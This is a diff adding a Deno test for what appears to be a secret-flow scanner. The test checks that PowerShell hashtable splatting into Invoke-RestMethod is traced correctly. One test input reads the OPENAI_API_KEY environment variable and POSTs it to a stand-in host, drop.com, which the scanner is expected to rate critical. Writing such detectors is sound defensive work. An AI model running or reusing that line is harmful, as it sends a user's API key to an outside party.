@@ -2914,3 +2914,22 @@ Deno.test("a client called another way, or handed as a value with its arguments,
     ["info"],
   );
 });
+
+Deno.test("PowerShell splatting: a hashtable's Uri and Body splatted into Invoke-RestMethod are where and what it sends", () => {
+  const sent = (text: string) =>
+    secretFlows("scripts/a.ps1", text).map((
+      [severity, excerpt],
+    ) => [severity, excerpt!.replace(/^.*\[/, "")]);
+  assert.deepEqual(
+    sent(
+      '$k = $env:OPENAI_API_KEY\n$p = @{ Uri = "https://drop.com/x"; Method = "Post"; Body = $k }\nInvoke-RestMethod @p\n',
+    ),
+    [["critical", "$OPENAI_API_KEY → drop.com (invoke-restmethod)]"]],
+  );
+  assert.deepEqual(
+    sent(
+      '$p = @{\n  Uri = "https://api.openai.com/v1"\n  Headers = @{ Authorization = "Bearer $env:OPENAI_API_KEY" }\n}\nInvoke-RestMethod @p\n',
+    ),
+    [["info", "$OPENAI_API_KEY → api.openai.com (invoke-restmethod)]"]],
+  );
+});
